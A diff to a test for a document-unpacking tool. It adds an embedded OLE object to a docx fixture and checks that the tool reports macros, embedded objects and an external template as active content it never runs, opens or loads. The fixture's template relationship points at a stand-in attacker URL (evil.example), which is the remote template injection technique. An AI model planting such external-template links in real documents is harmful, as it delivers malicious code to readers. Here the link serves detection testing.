@@ -56,9 +56,11 @@ def test_active_content_of_docx_is_said(unfold, zipped):
         '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
         'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
     )
-    data = docx(zipped, ("word/vbaProject.bin", "x"), ("word/_rels/settings.xml.rels", rels))
+    more = ("word/_rels/settings.xml.rels", rels), ("word/embeddings/oleObject1.bin", "x")
+    data = docx(zipped, ("word/vbaProject.bin", "x"), *more)
     assert unfold("a.docx", data)["a.docx"].document.remarks == (
         "active content: macros (word/vbaProject.bin); never run",
+        "active content: embedded objects, 1; never opened",
         "active content: attachedTemplate from outside (word/_rels/settings.xml.rels); not loaded",
         "tracked changes, read as accepted: 1",
     )
